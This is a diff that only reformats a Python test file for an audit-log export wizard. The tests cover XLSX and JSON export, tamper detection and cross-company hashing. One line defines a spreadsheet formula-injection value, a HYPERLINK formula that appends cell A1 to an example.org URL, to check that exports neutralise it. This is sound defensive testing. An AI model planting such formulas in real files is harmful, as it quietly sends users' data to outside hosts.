@@ -25,13 +25,17 @@ FORMULA = '=HYPERLINK("http://example.org?x="&A1)'
 class TestAuditExport(AuditCase):
     def setUp(self):
         super().setUp()
-        self.entries = self.append(5, rule_code="test.export", decision_name=FORMULA,
-                                   confidence=0.5, input_tokens=-3)
+        self.entries = self.append(
+            5, rule_code="test.export", decision_name=FORMULA, confidence=0.5, input_tokens=-3
+        )
         self.log._seal()
 
     def export(self, file_format, user=None, **values):
-        wizard = self.env["smart.audit.export"].with_user(user or self.auditor).create(
-            {"file_format": file_format, "rule_code": "test.export", **values})
+        wizard = (
+            self.env["smart.audit.export"]
+            .with_user(user or self.auditor)
+            .create({"file_format": file_format, "rule_code": "test.export", **values})
+        )
         wizard.action_export()
         return wizard, base64.b64decode(wizard.file_data)
 
@@ -55,8 +59,9 @@ class TestAuditExport(AuditCase):
         _wizard, content = self.export("xlsx")
         head, *rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()
         place = {cell.value: cell.column - 1 for cell in head}
-        self.assertEqual([row[place["Number"]].value for row in rows],
-                         self.entries.mapped("sequence"))
+        self.assertEqual(
+            [row[place["Number"]].value for row in rows], self.entries.mapped("sequence")
+        )
         cell = rows[0][place["Decision"]]
         self.assertEqual((cell.data_type, cell.value, cell.hyperlink), ("s", FORMULA, None))
         self.assertEqual(rows[0][place["Tokens sent"]].value, -3)
@@ -76,8 +81,9 @@ class TestAuditExport(AuditCase):
         self.assertTrue(chain_check.verify_export(lines, self.log._keys()).ok)
         self.assertEqual(json.loads(lines[-1])["id"], fresh.id)
         lines[2] = lines[2].replace("reason 2", "reason 3")
-        self.assertEqual(chain_check.verify_export(lines).breaks[0].sequence,
-                         self.entries[2].sequence)
+        self.assertEqual(
+            chain_check.verify_export(lines).breaks[0].sequence, self.entries[2].sequence
+        )
 
     def test_other_companies_leave_only_hashes(self):
         other = self.env["res.company"].create({"name": "Other Ltd"})
